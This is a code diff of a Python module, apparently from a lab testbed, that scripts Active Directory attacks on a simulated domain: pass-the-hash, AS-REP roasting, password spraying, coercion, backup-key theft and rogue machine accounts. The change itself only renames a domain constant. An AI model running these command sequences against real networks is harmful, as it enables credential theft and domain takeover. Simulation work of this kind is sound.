@@ -15,7 +15,7 @@ from training.testbed.enclosure import SOURCE_TREE
 from training.testbed.people.domain import PORT
 from training.testbed.services.directory import FIRST, LAST, Account, weak
 from training.testbed.services.domain import ADMIN, SHORT, Domain, known
-from training.testbed.services.names import CORP
+from training.testbed.services.names import ZONE
 
 OWN = str(SOURCE_TREE / "training" / "testbed" / "attackers" / "remote.py")
 HASH = re.compile(rb"^([\w.$-]+?):\d+:[0-9a-f]{32}:([0-9a-f]{32}):::", re.MULTILINE)
@@ -39,7 +39,7 @@ def example(name: str) -> tuple[str, str]:
 
 def target(domain: Domain, user: str = ADMIN, password: str = "") -> str:
     """Return a controller with somebody's access to it, as impacket's programs want it."""
-    return f"{CORP}/{user}:{password or domain.admin_password}@{domain.v4}"
+    return f"{ZONE}/{user}:{password or domain.admin_password}@{domain.v4}"
 
 
 def _stolen(stage: Stage, domain: Domain) -> Account:
@@ -83,9 +83,9 @@ def _with_hash(stage: Stage, domain: Domain, name: str, value: str) -> None:
         ["smbclient", f"//{domain.dc}/ADMIN$", *hashed, "-c", "ls"],
         ["smbclient", "-g", "-L", f"//{domain.dc}", *hashed],
         ["rpcclient", domain.dc, *hashed, "-c", "enumdomusers;enumdomgroups;netshareenumall"],
-        [*example("lookupsid"), "-hashes", f":{value}", f"{CORP}/{name}@{domain.v4}", "1160"],
-        [*example("services"), "-hashes", f":{value}", f"{CORP}/{name}@{domain.v4}", "list"],
-        [*example("smbexec"), "-hashes", f":{value}", f"{CORP}/{name}@{domain.v4}"],
+        [*example("lookupsid"), "-hashes", f":{value}", f"{ZONE}/{name}@{domain.v4}", "1160"],
+        [*example("services"), "-hashes", f":{value}", f"{ZONE}/{name}@{domain.v4}", "list"],
+        [*example("smbexec"), "-hashes", f":{value}", f"{ZONE}/{name}@{domain.v4}"],
     ]
     for words in rng.sample(ways, rng.randint(1, 4)):
         stage.run(*words, ok=None, limit_s=20.0)
@@ -127,7 +127,7 @@ def _questions(stage: Stage, domain: Domain, name: str, who: Account) -> list[li
         return [["rpcclient", domain.dc, *PORT, "-U", login, "-c", each] for each in chosen]
     if name == "ldapdomaindump":
         return [
-            ["ldapdomaindump", "-at", "SIMPLE", "-u", f"CORP\\{who.name}", "-p", who.password, f"ldap://{domain.dc}"]
+            ["ldapdomaindump", "-at", "SIMPLE", "-u", f"{SHORT}\\{who.name}", "-p", who.password, f"ldap://{domain.dc}"]
         ]
     if name == "ldapsearch":
         bound = [
@@ -135,7 +135,7 @@ def _questions(stage: Stage, domain: Domain, name: str, who: Account) -> list[li
             "-LLL",
             "-x",
             "-D",
-            f"{who.name}@{CORP}",
+            f"{who.name}@{ZONE}",
             "-w",
             who.password,
             "-H",
@@ -143,7 +143,7 @@ def _questions(stage: Stage, domain: Domain, name: str, who: Account) -> list[li
         ]
         wanted: tuple[str, ...] = ("(servicePrincipalName=*)", "(userAccountControl:1.2.840.113556.1.4.803:=4194304)")
         wanted += ("(adminCount=1)", "(objectClass=*)", "(objectClass=trustedDomain)", "(objectClass=computer)")
-        base = ",".join(f"DC={part}" for part in CORP.split("."))
+        base = ",".join(f"DC={part}" for part in ZONE.split("."))
         return [[*bound, "-b", base, "-E", "pr=500/noprompt", each] for each in rng.sample(wanted, rng.randint(1, 4))]
     if name == "net":
         asked = ["user", "group", "share", "service list", "group members Domain\\ Admins"]
@@ -195,7 +195,7 @@ def roast(stage: Stage) -> None:
     way = str(one(stage, "way") or rng.choice(("replies", "tickets", "both")))
     if way in ("replies", "both"):
         stage.run(
-            *example("GetNPUsers"), f"{CORP}/", "-usersfile", str(listed), "-no-pass", "-dc-ip", domain.v4, ok=None
+            *example("GetNPUsers"), f"{ZONE}/", "-usersfile", str(listed), "-no-pass", "-dc-ip", domain.v4, ok=None
         )
         _rest(stage)
     if way in ("tickets", "both"):
@@ -221,7 +221,7 @@ def spray(stage: Stage) -> None:
     listed.write_text("\n".join(accounts) + "\n")
     tool = str(one(stage, "tool") or rng.choice(("impacket", "kinit", "kinit")))
     if tool == "impacket":
-        stage.run("python3", OWN, "spray", domain.v4, CORP, str(listed), str(pause_s), *words, ok=None, limit_s=100.0)
+        stage.run("python3", OWN, "spray", domain.v4, ZONE, str(listed), str(pause_s), *words, ok=None, limit_s=100.0)
         return
     env = {**domain.clients_config(rng.choice(("udp", "tcp"))), "KRB5CCNAME": f"FILE:{stage.folder}/tickets"}
     script = stage.folder / "spray.sh"
@@ -240,7 +240,7 @@ def guess_names(stage: Stage) -> None:
     listed = stage.folder / "names"
     listed.write_text("\n".join(names) + "\n")
     pause = f"{float(stage.settings['pause_s']):.2f}"
-    stage.run("python3", OWN, "names", domain.v4, CORP, str(listed), pause, ok=None, limit_s=60.0)
+    stage.run("python3", OWN, "names", domain.v4, ZONE, str(listed), pause, ok=None, limit_s=60.0)
 
 
 def zero(stage: Stage) -> None:
@@ -254,7 +254,7 @@ def coerce(stage: Stage) -> None:
     rng, domain = stage.rng, known(stage.world)
     who = _stolen(stage, domain)
     for _ in range(rng.randint(1, 3)):
-        words = [domain.v4, f"{who.name}:{who.password}", CORP, stage.host.v4]
+        words = [domain.v4, f"{who.name}:{who.password}", ZONE, stage.host.v4]
         stage.run("python3", OWN, "coerce", *words, ok=None, limit_s=20.0)
         _rest(stage, 1.0)
 
@@ -262,7 +262,7 @@ def coerce(stage: Stage) -> None:
 def fetch_key(stage: Stage) -> None:
     """Fetch the domain's backup key, which opens what all its users have protected."""
     domain = known(stage.world)
-    words = [domain.v4, f"{ADMIN}:{domain.admin_password}", CORP]
+    words = [domain.v4, f"{ADMIN}:{domain.admin_password}", ZONE]
     stage.run("python3", OWN, "backupkey", *words, ok=None, limit_s=20.0)
 
 
@@ -272,10 +272,10 @@ def add_machine(stage: Stage) -> None:
     who = Account(ADMIN, domain.admin_password, "person") if rng.random() < 0.7 else _stolen(stage, domain)
     name, password = f"DESKTOP-{rng.getrandbits(32):08X}", f"Pw-{rng.getrandbits(48):x}"
     made = ["-computer-name", f"{name}$", "-computer-pass", password, "-method", "SAMR", "-dc-ip", domain.v4]
-    stage.run(*example("addcomputer"), f"{CORP}/{who.name}:{who.password}", *made, ok=None)
+    stage.run(*example("addcomputer"), f"{ZONE}/{who.name}:{who.password}", *made, ok=None)
     _rest(stage)
     ways = [
-        [*example("getTGT"), f"{CORP}/{name}$:{password}", "-dc-ip", domain.v4],
+        [*example("getTGT"), f"{ZONE}/{name}$:{password}", "-dc-ip", domain.v4],
         [*example("lookupsid"), target(domain, f"{name}$", password), "1160"],
         ["smbclient", f"//{domain.dc}/sysvol", *PORT, "-U", f"{SHORT}\\{name}$%{password}", "-c", "recurse;ls"],
     ]
